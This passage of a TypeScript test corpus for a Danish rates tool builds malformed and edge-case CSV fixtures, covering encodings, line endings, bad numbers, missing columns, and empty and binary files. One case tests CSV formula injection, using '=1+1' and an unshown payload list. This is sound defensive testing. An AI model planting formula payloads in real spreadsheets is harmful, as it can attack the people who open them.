          e.name === 'xl/worksheets/sheet1.xml'
            ? { ...e, data: Buffer.concat([e.data.subarray(0, Math.floor(e.data.length / 2)), Buffer.from('<<<&&&')]), deflate: true }
            : { ...e, deflate: true },
        ),
      );
    },
    expect: { kind: 'refused', code: 'corrupt', message: /beskadiget/ },
  },
];

// ---------------------------------------------------------------------------------------------------------------
// Tidy tables for `takst fill --mapping` (the mapping is samples/syntetisk-kolonner.json's).

export const CORPUS_MAPPING = SYNTHETIC_MAPPING;

const offers = syntheticOffers(5);
const csv = syntheticCsv(offers);
/** The data rows of the CSV. */
const csvRows = csv.trim().split('\r\n').length - 1;

/** The CSV with its data row n (from 1) changed field by field. */
function editLine(text: string, n: number, edit: (fields: string[]) => string[]): string {
  const lines = text.split('\r\n');
  lines[n] = edit(lines[n].split(';')).join(';');
  return lines.join('\r\n');
}

const TABLES: CorpusCase[] = [
  {
    id: 'csv-windows-1252',
    title: 'CSV i Windows-1252 med ";" og danske decimaler (Excel "CSV (semikolonsepareret)")',
    file: 'csv-windows-1252.csv',
    build: async () => windows1252(csv.replaceAll('Syntetisk tilbud 01', 'Syntetisk tilbud Ørbæk')),
    expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Ørbæk'] },
  },
  {
    id: 'csv-utf8-bom',
    title: 'CSV i UTF-8 med BOM',
    file: 'csv-utf8-bom.csv',
    build: async () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv.replaceAll('Syntetisk tilbud 02', 'Syntetisk tilbud Ålbæk'), 'utf8')]),
    expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Ålbæk'] },
  },
  {
    id: 'csv-komma-engelsk',
    title: 'CSV med "," som skilletegn, anførselstegn og engelske decimaler i anførselstegn',
    file: 'csv-komma-engelsk.csv',
    build: async () => {
      const rows = csv
        .trim()
        .split('\r\n')
        .map((l) => l.split(';').map((v, i) => (i >= 6 ? v.replace(/\./g, '').replace(',', '.') : v)));
      return Buffer.from(rows.map((r) => r.map((v) => (/[,"]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\n'), 'utf8');
    },
    expect: { kind: 'table', offers: 5 },
  },
  {
    id: 'csv-injektion',
    title: 'CSV med formel-lignende tekst (CSV-injektion) i alle tekstfelter',
    file: 'csv-injektion.csv',
    build: async () => {
      // Each offer's name (Tilbud and Afdeling) is a payload, and every Paragraf is "=1+1"; fields are quoted.
      const named = offers.map((o, i) => ({ ...o, tilbud: `INJ${i}`, lovgrundlag: 'INJP' }));
      const quote = (t: string) => `"${t.replace(/"/g, '""')}"`;
      let text = syntheticCsv(named).replaceAll('INJP', quote('=1+1'));
      named.forEach((_, i) => (text = text.replaceAll(`INJ${i}`, quote(INJECTION[i]))));
      return Buffer.from(text, 'utf8');
    },
    expect: { kind: 'table', offers: 5, contains: INJECTION.slice(0, 4) },
  },
  // Parse errors and unreadable values: every one named by its row (and column), and the file never exits 0.
  {
    id: 'csv-blandede-linjeskift',
    title: 'CSV med CRLF, LF og CR som linjeskift i samme fil',
    file: 'csv-blandede-linjeskift.csv',
    build: async () =>
      Buffer.from(
        csv
          .trim()
          .split('\r\n')
          .map((l, i) => l + ['\r\n', '\n', '\r'][i % 3])
          .join(''),
        'utf8',
      ),
    expect: { kind: 'table', offers: 5, rows: csvRows, problems: [] },
  },
  {
    id: 'csv-sep-linje',
    title: 'CSV med Excels "sep=;" som første linje',
    file: 'csv-sep-linje.csv',
    build: async () => Buffer.from(`sep=;\r\n${csv}`, 'utf8'),
    expect: { kind: 'table', offers: 5, rows: csvRows, problems: [] },
  },
  {
    id: 'csv-utf16',
    title: 'CSV i UTF-16 med BOM (Excels "Unicode-tekst")',
    file: 'csv-utf16.csv',
    build: async () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv.replaceAll('Syntetisk tilbud 03', 'Syntetisk tilbud Æblehaven'), 'utf16le')]),
    expect: { kind: 'table', offers: 5, contains: ['Syntetisk tilbud Æblehaven'], problems: [] },
  },
  {
    id: 'csv-felt-mangler',
    title: 'En CSV-række med ét felt for lidt (ville ellers læses forskudt)',
    file: 'csv-felt-mangler.csv',
    build: async () =>
      Buffer.from(
        editLine(csv, 2, (f) => f.filter((_, i) => i !== 9)),
        'utf8',
      ),
    expect: { kind: 'table', offers: 5, rows: csvRows, problems: [/række 3: Rækken har 12 felter, men overskriften har 13/] },
  },
  {
    id: 'csv-ulaeselige-tal',
    title: 'Tal, der ikke er tal: "fyrre", "NaN" og "1e308"',
    file: 'csv-ulaeselige-tal.csv',
    build: async () =>
      Buffer.from(
        editLine(
          editLine(
            editLine(csv, 1, (f) => f.map((v, i) => (i === 6 ? 'fyrre' : v))),
            2,
            (f) => f.map((v, i) => (i === 8 ? 'NaN' : v)),
          ),
          3,
          (f) => f.map((v, i) => (i === 12 ? '1e308' : v)),
        ),
        'utf8',
      ),
    expect: {
      kind: 'table',
      offers: 5,
      rows: csvRows,
      problems: [
        /række 2: kolonne "Pladser": "fyrre" er ikke et tal/,
        /række 3: kolonne "Budget": "NaN" er ikke et tal/,
        /række 4: kolonne "Takst": "1e308" er ikke et tal/,
      ],
    },
  },
  {
    id: 'csv-samme-tilbud-to-gange',
    title: 'Samme tilbud og år to gange med forskellige tal',
    file: 'csv-samme-tilbud-to-gange.csv',
    build: async () => Buffer.from(`${csv}${editLine(csv, 1, (f) => f.map((v, i) => (i === 6 ? '99' : v))).split('\r\n')[1]}\r\n`, 'utf8'),
    expect: { kind: 'table', offers: 5, rows: csvRows + 1, problems: [/står allerede som \d+; 99 i denne række er ikke brugt/] },
  },
  {
    id: 'csv-uafsluttet-citat',
    title: 'Et citationstegn, der ikke lukkes',
    file: 'csv-uafsluttet-citat.csv',
    build: async () =>
      Buffer.from(
        editLine(csv, csvRows, (f) => f.map((v, i) => (i === 1 ? `"${v}` : v))),
        'utf8',
      ),
    expect: { kind: 'table', offers: 5, problems: [/citationstegn \("\) lukkes ikke/] },
  },
  {
    id: 'csv-for-lang-tekst',
    title: 'Et tekstfelt på 40.000 tegn (en Excel-celle rummer 32.767)',
    file: 'csv-for-lang-tekst.csv',
    build: async () =>
      Buffer.from(
        editLine(csv, 1, (f) => f.map((v, i) => (i === 2 ? 'x'.repeat(40_000) : v))),
        'utf8',
      ),
    expect: {
      kind: 'table',
      offers: 5,
      problems: [/række 2: kolonne "Afdeling": teksten har 40\.000 tegn; en Excel-celle rummer 32\.767, så den er afkortet/],
    },
  },
  {
    id: 'csv-tom',
    title: 'En tom CSV-fil',
    file: 'csv-tom.csv',
    build: async () => Buffer.alloc(0),
    expect: { kind: 'table', offers: 0, refused: /tom|ingen/i },
  },
  {
    id: 'csv-mangler-kolonne',
    title: 'CSV uden kolonnen "Tilbud"',
    file: 'csv-mangler-kolonne.csv',
    build: async () => Buffer.from(csv.replace('Tilbud;', 'Navn;'), 'latin1'),
    expect: { kind: 'table', offers: 0, refused: /Tilbud/ },
  },
  {
    id: 'csv-binaer',
    title: 'Binære data med .csv-endelse',
    file: 'csv-binaer.csv',
    build: async () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 97 + 13) & 0xff)),
    expect: { kind: 'table', offers: 0, refused: /./ },
  },
];

export const CORPUS: CorpusCase[] = [...CONTENT, ...LAYOUT, ...INJECT, ...FILES, ...TABLES];
